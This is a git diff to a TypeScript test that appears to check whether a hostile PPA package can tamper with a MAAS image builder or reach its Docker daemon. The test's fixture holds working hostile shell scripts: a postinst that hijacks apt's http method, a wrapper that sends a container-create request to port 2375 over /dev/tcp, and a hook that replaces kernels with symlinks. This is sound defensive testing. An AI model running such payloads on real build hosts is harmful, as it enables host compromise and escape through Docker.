@@ -1,4 +1,5 @@
 import { mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
+import { createServer } from 'node:http';
 import { join } from 'node:path';
 import { beforeAll, expect, it, onTestFinished } from 'vitest';
 import { type LookAlike, lookAlike } from '../fixtures/look-alike';
@@ -14,7 +15,7 @@ beforeAll(async () => {
   noble = await lookAlike('noble');
 }, 300_000);
 
-it('a hostile package of a PPA changes no file of the builder and has none published', {
+it('a hostile package of a PPA changes no file of the builder, has none published and reaches no service there', {
   timeout: 600_000,
 }, async () => {
   // No temporary one, which would be emptied in the image: the hook is to lead to something there as well.
@@ -29,7 +30,21 @@ it('a hostile package of a PPA changes no file of the builder and has none publi
 for kernel in /boot/vmlinuz-*; do [ -f "$kernel" ] && rm "$kernel" && ln -s ${secret} "$kernel"; done
 exit 0
 `;
+  const docker: string[] = [];
+  const server = createServer((request, response) => {
+    docker.push(`${request.method} ${request.url}`);
+    response.end('{}');
+  });
+  // Where Docker's daemon is on machines of CodeBuild.
+  await new Promise<void>((resolve) => server.listen(2375, '127.0.0.1', resolve));
+  onTestFinished(() => void server.close());
+  const method = `#!/bin/bash
+( exec 3<>/dev/tcp/127.0.0.1/2375 && printf 'POST /v1.44/containers/create HTTP/1.0\\r\\nContent-Length: 0\\r\\n\\r\\n' >&3 && cat <&3 ) >/dev/null 2>&1
+exec /usr/lib/apt/methods/http.real "$@"
+`;
   const postinst = `#!/bin/sh
+mv /usr/lib/apt/methods/http /usr/lib/apt/methods/http.real
+mv /usr/lib/maas-evil-method /usr/lib/apt/methods/http
 mkdir -p /etc/kernel/postinst.d
 ln -sf ${victim} /etc/kernel/postinst.d/zz-update-grub
 mkdir -p ${folder}
@@ -37,7 +52,7 @@ echo inside >${victim}
 `;
   const evil = {
     ...{ name: 'evil', version: '1', scripts: { postinst } },
-    files: { 'usr/share/initramfs-tools/hooks/zz-evil': hook },
+    files: { 'usr/share/initramfs-tools/hooks/zz-evil': hook, 'usr/lib/maas-evil-method': method },
   };
   const ppa = await makePpa(temporaryFolder(), { owner: 'evil', name: 'ppa', release: 'noble', packages: [evil] });
   await using launchpad = await servePpas(ppa);
@@ -46,6 +61,7 @@ echo inside >${victim}
   const built = await maasMirror(site.words('--kernel', 'ga', '--no-boot-test', ...words), { env: site.env });
 
   expect(`${built.code}\n${built.code === 0 ? '' : built.err}`).toBe('0\n');
+  expect(docker).toEqual([]);
   expect(statSync(victim).mode & 0o7777).toBe(0o600);
   const version = await newestAt({ mirror: site.mirror, release: 'noble', kernel: 'ga' });
   const kernel = readFileSync(fileOf(site, version, 'boot-kernel'));
